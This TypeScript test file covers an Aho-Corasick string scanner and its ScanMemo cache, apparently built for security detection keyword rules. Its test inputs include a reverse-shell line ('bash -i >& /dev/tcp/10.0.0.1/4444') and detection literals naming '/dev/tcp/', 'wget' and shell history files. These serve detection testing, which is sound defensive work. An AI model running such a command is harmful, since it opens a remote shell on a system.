import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { AhoCorasick } from './aho.js';

test('finds every literal that occurs, including overlapping and nested ones', () => {
  const ac = new AhoCorasick();
  ['he', 'she', 'his', 'hers', 'é!'].forEach((w, i) => ac.add(w, i));
  const found = new Set<number>();
  ac.scan('ushers café!', (id) => found.add(id));
  assert.deepEqual([...found].sort(), [0, 1, 3, 4]);
});

test('scans are case-insensitive for lowercase literals', () => {
  const ac = new AhoCorasick();
  ac.add('cmd.exe', 0);
  ac.add('straße', 1);
  ac.add('k', 2);
  const found = new Set<number>();
  ac.scan('C:\\WINDOWS\\CMD.EXE STRAßE', (id) => found.add(id));
  assert.deepEqual([...found].sort(), [0, 1]);
  ac.scan('\u212a', (id) => found.add(id));
  assert.ok(found.has(2), 'Kelvin sign lowercases to k');
  const dotted = new AhoCorasick();
  dotted.add('i', 7);
  let seen = false;
  dotted.scan('\u0130', () => (seen = true));
  assert.ok(seen, 'İ lowercases to i + combining dot');
});

test('property: agrees with String.includes', () => {
  const word = fc.array(fc.constantFrom('a', 'b', 'c', 'ä'), { minLength: 1, maxLength: 4 }).map((a) => a.join(''));
  fc.assert(
    fc.property(
      fc.array(word, { minLength: 1, maxLength: 8 }),
      fc.array(fc.constantFrom('a', 'b', 'c', 'ä', 'x'), { maxLength: 30 }).map((a) => a.join('')),
      fc.integer({ min: 1, max: 12 }),
      (words, text, maxDense) => {
        // Small dense regions exercise the sparse deep-state path too.
        const ac = new AhoCorasick({ maxDense });
        words.forEach((w, i) => ac.add(w, i));
        const found = new Set<number>();
        const upper = text.toUpperCase();
        ac.scan(upper, (id) => found.add(id));
        const expected = new Set(words.flatMap((w, i) => (upper.toLowerCase().includes(w) ? [i] : [])));
        assert.deepEqual([...found].sort(), [...expected].sort());
      },
    ),
    { numRuns: 2000 },
  );
});

test('a shared stamp reports each literal once across the scans of one event', () => {
  const ac = new AhoCorasick();
  ac.add('ab', 1);
  const got: number[] = [];
  ac.scan('ab ab', (id) => got.push(id), 7);
  ac.scan('xab', (id) => got.push(id), 7);
  assert.deepEqual(got, [1]);
  ac.scan('ab', (id) => got.push(id), 8);
  assert.deepEqual(got, [1, 1]);
});

test('ScanMemo reports what scanning each automaton reports, on first and repeated lookups', async () => {
  const { ScanMemo } = await import('./aho.js');
  const word = fc.array(fc.constantFrom('a', 'b', 'c', 'ä'), { minLength: 1, maxLength: 3 }).map((a) => a.join(''));
  fc.assert(
    fc.property(
      fc.array(word, { minLength: 1, maxLength: 6 }),
      fc.array(word, { minLength: 1, maxLength: 6 }),
      fc.array(fc.constantFrom('a', 'B', 'c', 'ä', 'x'), { maxLength: 300 }).map((a) => a.join('')),
      (w1, w2, text) => {
        const one = new AhoCorasick();
        const two = new AhoCorasick();
        w1.forEach((w, i) => one.add(w, i));
        w2.forEach((w, i) => two.add(w, 100 + i));
        const memo = new ScanMemo([one, two]);
        const expected = new Set<number>();
        one.scan(text, (id) => expected.add(id));
        two.scan(text, (id) => expected.add(id));
        for (let round = 0; round < 2; round++) {
          const got = new Set<number>();
          memo.find(text, (id) => got.add(id), 0);
          assert.deepEqual([...got].sort(), [...expected].sort());
        }
      },
    ),
    { numRuns: 500 },
  );
});

test('ScanMemo: texts skipped by their character classes are exactly texts without a literal', async () => {
  const { ScanMemo } = await import('./aho.js');
  // Hex ids, times and paths against letters, punctuation and characters whose case folds across
  // ASCII (Kelvin sign → k, dotless ı ↔ I, long ſ ↔ S, İ → i + dot).
  const chars = ['a', 'f', '0', '9', '-', '{', '}', ':', '/', ' ', '.', 'g', 'k', 'S', 's', 'I', 'i', 'x', '@', '\u212a', '\u0131', '\u017f', '\u0130'];
  const word = fc.array(fc.constantFrom(...chars), { minLength: 1, maxLength: 4 }).map((a) => a.join('').toLowerCase());
  fc.assert(
    fc.property(
      fc.array(word, { minLength: 1, maxLength: 8 }),
      fc.array(
        fc.array(fc.constantFrom(...chars), { maxLength: 40 }).map((a) => a.join('')),
        { maxLength: 6 },
      ),
      (words, texts) => {
        const ac = new AhoCorasick();
        words.forEach((w, i) => ac.add(w, i));
        const memo = new ScanMemo([ac]);
        for (const text of texts) {
          const expected = new Set<number>();
          ac.scan(text, (id) => expected.add(id));
          const got = new Set<number>();
          memo.find(text, (id) => got.add(id), 0);
          assert.deepEqual([...got].sort(), [...expected].sort(), JSON.stringify({ words, text }));
        }
      },
    ),
    { numRuns: 1000 },
  );
});

test('ScanMemo skips GUIDs and hashes for literals they cannot hold, and says how many', async () => {
  const { ScanMemo } = await import('./aho.js');
  const ac = new AhoCorasick();
  ac.add('/dev/tcp/', 0);
  ac.add('wget', 1);
  const memo = new ScanMemo([ac]);
  const got: number[] = [];
  for (const t of ['{89f80f87-f47e-da24-8da5-95047cb10aec}', 'F88D23D7FA02BDC806780E6BDF2379DF', '2026-03-04 05:00:00.003'])
    memo.find(t, (id) => got.push(id), 0);
  assert.equal(memo.skipped, 3);
  memo.find('bash -i >& /dev/tcp/10.0.0.1/4444', (id) => got.push(id), 0);
  memo.find('WGET http://x', (id) => got.push(id), 0);
  assert.deepEqual(got, [0, 1]);
  assert.equal(memo.skipped, 3);
});

test('property: ScanMemo never drops a hit a plain scan finds, for short, long and repeated texts', async () => {
  const { ScanMemo } = await import('./aho.js');
  // Literals like the linux keyword rules' (paths, shell syntax, one-character ones) against
  // GUIDs, hashes, times, command lines, texts past the memo's length limit and non-ASCII ones.
  const chars = ['a', 'e', 'f', '0', '7', '-', '{', '}', ':', '/', ' ', '.', '>', '&', ';', '_', '=', '@', 'h', 's', 'T', 'Z', 'ä', '\u212a', 'k'];
  const piece = fc.oneof(
    fc.array(fc.constantFrom(...chars), { maxLength: 12 }).map((a) => a.join('')),
    fc.constantFrom(
      '{89f80f87-f47e-da24-8da5-95047cb10aec}',
      'SHA256=F88D23D7FA02BDC8',
      '2026-03-04T05:00:00.000Z',
      'bash -i >& /dev/tcp/',
      'ghost_',
      'sh_history',
    ),
  );
  const text = fc.oneof(
    fc.array(piece, { maxLength: 4 }).map((a) => a.join('')),
    fc.array(piece, { minLength: 20, maxLength: 40 }).map((a) => a.join(' ')),
  );
  const literal = fc.oneof(
    fc.array(fc.constantFrom(...chars), { minLength: 1, maxLength: 5 }).map((a) => a.join('').toLowerCase()),
    fc.constantFrom('/dev/tcp/', ':', '@', 'ghost_', 'sh_history', '>&', 'f47e-'),
  );
  fc.assert(
    fc.property(fc.array(literal, { minLength: 1, maxLength: 10 }), fc.array(literal, { maxLength: 4 }), fc.array(text, { maxLength: 12 }), (l1, l2, texts) => {
      const one = new AhoCorasick();
      l1.forEach((w, i) => one.add(w, i));
      const acs = [one];
      if (l2.length) {
        const two = new AhoCorasick();
        l2.forEach((w, i) => two.add(w, 100 + i));
        acs.push(two);
      }
      const memo = new ScanMemo(acs);
      // Each text twice, so the second lookup may come from the memo.
      for (const t of [...texts, ...texts]) {
        const expected = new Set<number>();
        for (const ac of acs) ac.scan(t, (id) => expected.add(id));
        const got = new Set<number>();
        memo.find(t, (id) => got.add(id), 0);
        assert.deepEqual([...got].sort(), [...expected].sort(), JSON.stringify({ l1, l2, t }));
      }
    }),
    { numRuns: 1000 },
  );
});

test('ScanMemo judges a GUID by its classes on every lookup, and finds a literal in any case on every lookup', async () => {
  const { ScanMemo } = await import('./aho.js');
  const ac = new AhoCorasick();
  ac.add('wget', 0);
  const memo = new ScanMemo([ac]);
  const got: number[] = [];
  memo.find('{89f80f87-f47e-da24-8da5-95047cb10aec}', (id) => got.push(id), 0);
  memo.find('{89f80f87-f47e-da24-8da5-95047cb10aec}', (id) => got.push(id), 0);
  assert.equal(memo.skipped, 2, 'judged by its classes each time, never looked up');
  memo.find('/usr/bin/wget -q', (id) => got.push(id), 0);
  memo.find('/usr/bin/WGET -q', (id) => got.push(id), 0);
  memo.find('/usr/bin/wget -q', (id) => got.push(id), 0);
  assert.deepEqual(got, [0, 0, 0]);
  assert.equal(memo.skipped, 2);
});
